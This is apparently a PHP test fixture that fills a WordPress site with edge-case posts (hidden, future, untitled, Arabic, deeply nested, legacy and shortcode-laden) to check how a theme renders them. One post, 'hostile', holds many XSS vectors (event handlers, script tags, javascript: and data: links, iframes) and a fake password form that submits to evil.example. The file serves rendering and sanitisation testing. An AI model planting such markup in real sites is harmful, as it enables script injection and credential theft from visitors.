<?php
// Posts that are hard to show, or that may not be shown.

$say = fn( $words ) => "<!-- wp:paragraph -->\n<p>$words</p>\n<!-- /wp:paragraph -->";

post( 'feature', 'Harbour reopens &amp; the town &#8220;rejoices&#8221; <em>again</em>', $say( 'After eleven years the harbour is open.' ) . $say( 'See <a href="#top">above</a>.' ), array( 'post_excerpt' => 'After eleven years, <strong>boats</strong> are back.', 'tags_input' => array( 'Ports & tides', 'Boats' ) ) );
set_post_thumbnail( get_page_by_path( 'feature', OBJECT, 'post' ), 11 );

// Who may read it, and who may reply.
post( 'password', 'Behind a password', $say( 'The secret text.' ), array( 'post_password' => 'tide' ) );
post( 'draft', 'A draft', $say( 'Not ready.' ), array( 'post_status' => 'draft' ) );
post( 'pending', 'Waiting for the editor', $say( 'Not read yet.' ), array( 'post_status' => 'pending' ) );
post( 'private', 'Private', $say( 'For editors.' ), array( 'post_status' => 'private' ) );
post( 'later', 'To appear in ten years', $say( 'Not yet.' ), array( 'post_status' => 'future', 'post_date' => '2124-05-17 09:30:00', 'post_date_gmt' => '2124-05-17 09:30:00' ) );
wp_trash_post( post( 'trash', 'Thrown away', $say( 'Gone.' ) ) );
$closed = post( 'closed', 'Nobody may reply any more', $say( 'Comments are closed.' ), array( 'comment_status' => 'closed' ) );
post( 'quiet', 'Nobody has replied yet', $say( 'Be the first.' ) );

// Names and titles.
post( 'empty-title', '', $say( 'A post without a title.' ) );
post( 'escaped-author', 'By an author with a difficult name', $say( 'Signed.' ), array( 'post_author' => ONEIL ) );
post( 'nameless-author', 'By an author without a name', $say( 'Unsigned.' ), array( 'post_author' => NAMELESS ) );
post( 'deleted-author', 'By an author who is gone', $say( 'Unsigned.' ), array( 'post_author' => DELETED ) );
post( 'script-title', 'A title with <script>alert(1)</script> a script', $say( 'Text.' ), array( 'post_author' => 1 ) );
post( 'empty', 'A post without a text', '' );
post( 'ميناء-بيروت', 'ميناء بيروت يفتح أبوابه', $say( 'بعد <strong>أحد عشر عامًا</strong> عاد الميناء إلى العمل، وقالت <em>ليلى</em>: «أخيرًا».' ) . "<!-- wp:quote -->\n<blockquote class=\"wp-block-quote\">" . $say( 'البحر لا ينتظر أحدًا.' ) . "<cite>صيّاد</cite></blockquote>\n<!-- /wp:quote -->", array( 'post_author' => LAYLA ) );

// Texts.
$up = '/wp-content/uploads/2024/05/';
post( 'relative', 'Relative addresses', "<p>A <a href=\"/2024/05/quiet/\">root-relative</a>, a <a href=\"../quiet/\">relative</a>, a <a href=\"//example.org/x\">schemeless</a> link, <a href=\"mailto:desk@example.org\">mail</a> and <a href=\"tel:+123\">telephone</a>.</p>\n<p><img src=\"{$up}gulls.png\" alt=\"Gulls\" width=\"400\" height=\"300\"></p>\n<p><img src=\"../../../wp-content/uploads/2024/05/nets.png\" alt=\"Nets\"></p>" );
post( 'deep', 'Sixty boxes in each other', str_repeat( '<div class="box">', 60 ) . '<p>At the bottom.</p>' . str_repeat( '</div>', 60 ) );
post(
	'hostile',
	'An administrator’s own markup',
	<<<'HTML'
<!-- wp:html -->
<p onclick="window.hacked=1" style="position:fixed;inset:0" id="comment">A harmless beginning.</p>
<script>window.hacked = 1</script><style>* { display: none !important }</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<img src="x" onerror="window.hacked=1" alt="A broken picture"><svg onload="window.hacked=1"><script>window.hacked=1</script></svg>
<a href="javascript:window.hacked=1">script</a> <a href="data:text/html,<script>window.hacked=1</script>">data</a> <a href="vbscript:x">vb</a>
<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/"><input name="password" type="password" autofocus><button>Log in</button></form>
<template><img src=x onerror="window.hacked=1"></template><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<x-custom>A custom element</x-custom><math><mtext><img src=x onerror="window.hacked=1"></mtext></math>
<p>A harmless end.</p>
<!-- /wp:html -->
HTML,
	array( 'post_author' => 1 )
);
post( 'shortcodes', 'What a page builder left behind', "[vc_row][vc_column width=\"1/2\"]<p>Text between shortcodes.</p>[/vc_column][/vc_row]\n\nA paragraph with a [gone id=3] in it, and [not a shortcode].\n\n[et_pb_section fb_built=\"1\"]More.[/et_pb_section]" );
post( 'classic', 'Written in the classic editor', "A first paragraph,\nwith a second line.\n\n[caption id=\"attachment_11\" align=\"alignleft\" width=\"300\"]<img class=\"size-medium wp-image-11\" src=\"" . src( 'harbour', '300x200' ) . "\" alt=\"Boats\" width=\"300\" height=\"200\" /> The harbour, <em>as it was</em>[/caption]\n\nBeside it.\n\n<h3>Pictures</h3>\n[gallery columns=\"2\" ids=\"11,12,13,14\" size=\"medium\"]\n\n[audio mp3=\"" . uploads() . "/bell.mp3\"]\n\n[video mp4=\"" . uploads() . "/tide.mp4\" width=\"640\" height=\"360\"]\n\nhttps://www.youtube.com/watch?v=jNQXAC9IVRw\n\n[embed]https://vimeo.com/22439234[/embed]" );
post( 'old-markup', 'Pasted from a word processor', "<p class=MsoNormal align=center style='mso-fareast-language:EN-US'><b><i>Pasted</i></b><o:p></o:p></p></p><!--[if gte mso 9]><xml>x</xml><![endif]-->\n<table border=1 bgcolor=\"#eeeeee\" width=\"900\"><tr><td nowrap>" . str_repeat( 'unbroken ', 30 ) . "<table><tr><td>inside</td></tr></table></td></tr></table><center>Centred</center><p>Never <strong>closed<p>Next" );
post( 'long-words', 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft' . str_repeat( 'x', 120 ), '<p>' . str_repeat( 'w', 300 ) . '</p><p><a href="https://example.org/' . str_repeat( 'y', 300 ) . '">https://example.org/' . str_repeat( 'y', 300 ) . '</a></p>' );
post( 'huge', 'A very long text', implode( "\n\n", array_map( fn( $n ) => $say( "Paragraph $n. " . trim( str_repeat( 'The log of the harbour master goes on, hour by hour, tide by tide. ', 7 ) ) ), range( 1, 1200 ) ) ) );
